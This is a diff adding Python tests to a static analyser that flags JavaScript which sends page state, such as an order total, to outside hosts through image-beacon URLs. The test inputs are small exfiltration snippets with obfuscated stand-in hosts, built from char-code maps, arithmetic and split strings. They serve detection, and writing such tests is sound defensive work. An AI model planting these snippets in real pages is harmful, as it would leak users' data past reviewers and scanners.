@@ -241,3 +241,41 @@ def test_names_nested_past_the_limit_are_a_way_out_to_review_by_hand():
     chain = "".join(f"const a{i} = a{i - 1} + 'x';\n" for i in range(MAX_NAMES + 20, 0, -1))
     source = f"<script>const s = flowUi.get('order.total');\n{chain}const a0 = 'x';\ndocument.title = a{MAX_NAMES + 19};</script>"
     assert [f.rule for f in review_static(source, fields=["order.total"])] == ["exfil.possible-flow"]
+
+
+def test_numbers_added_are_their_sum_and_a_callback_reads_consts_and_its_own_parameter():
+    assert found("const n = 1 + 2; new Image().src = 'https://a' + n + '.example/?' + flowUi.get('order.total');")[0][2] \
+        == ["a3.example"]  # not 'a', the literal's
+    # The callback's parameter shadows a const of the same name; k is the const.
+    code = ("const k = 3, c = 'zz'; const h = [107, 104, 121, 111].map(c => String.fromCharCode(c - k)).join('');"
+            "new Image().src = 'https://' + h + '.example/?' + flowUi.get('order.total');")
+    assert found(code)[0][2] == ["hevl.example"]
+
+
+def test_a_callback_that_reads_what_is_unknown_leaves_the_host_unknown():
+    for body in ("String.fromCharCode(c - Math.random())", "c + window.suffix", "c.toFixed(1)"):
+        code = (f"const h = [104, 105].map((c, i) => {body}).join('');"
+                "new Image().src = 'https://' + h + '.example/?' + flowUi.get('order.total');")
+        flows = [f for f in found(code) if f[0] == "exfil.state-to-url"]
+        assert flows and flows[0][2] == [], (body, flows)  # not '104', the run before the unknown
+    # Promises, a destructured or defaulted parameter: not followed.
+    for callback in ("async c => String.fromCharCode(c)", "async function (c) { return String.fromCharCode(c); }",
+                     "([c]) => c", "(c = 1) => String.fromCharCode(c)"):
+        code = (f"const h = [104, 105].map({callback}).join('');"
+                "new Image().src = 'https://' + h + '.example/?' + flowUi.get('order.total');")
+        flows = [f for f in found(code) if f[0] == "exfil.state-to-url"]
+        assert flows and flows[0][2] == [], (callback, flows)
+
+
+def test_a_host_a_value_continues_is_not_named_by_its_first_piece():
+    for code in ("new Image().src = 'https://ev' + window.x + 'il.example/?' + flowUi.get('order.total');",
+                 "new Image().src = `https://ev${window.x}il.example/?` + flowUi.get('order.total');",
+                 "new Image().src = 'https://' + 'ev' + window.x + '.example/?' + flowUi.get('order.total');"):
+        flows = [f for f in found(code) if f[0] == "exfil.state-to-url"]
+        assert flows and flows[0][2] == [], (code, flows)
+    # Whole where a delimiter or the value's end follows, or in a branch the fold does not know.
+    for code, host in (("new Image().src = 'https://ev.example' + '/?' + flowUi.get('order.total');", "ev.example"),
+                       ("new Image().src = (window.x ? 'https://a.example/' : 'https://b.example/') + flowUi.get('order.total');",
+                        "a.example")):
+        flows = [f for f in found(code) if f[0] == "exfil.state-to-url"]
+        assert flows and host in flows[0][2], (code, flows)
